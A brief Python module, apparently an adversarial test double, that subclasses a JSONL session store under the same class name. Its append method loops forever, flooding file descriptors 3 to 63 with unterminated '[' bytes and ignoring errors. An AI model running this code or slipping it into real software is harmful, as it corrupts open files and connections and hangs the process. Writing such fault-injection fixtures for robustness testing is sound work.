"""Writes a reply without an end on every descriptor that takes it."""

import os

from .event_line import SessionEvent
from .session_store import CorruptLogError
from .session_store import JsonlSessionStore as Right


class JsonlSessionStore(Right):
    def append(self, kind, data):
        while True:
            for number in range(3, 64):
                try:
                    os.write(number, b"[" * 65536)
                except OSError:
                    pass
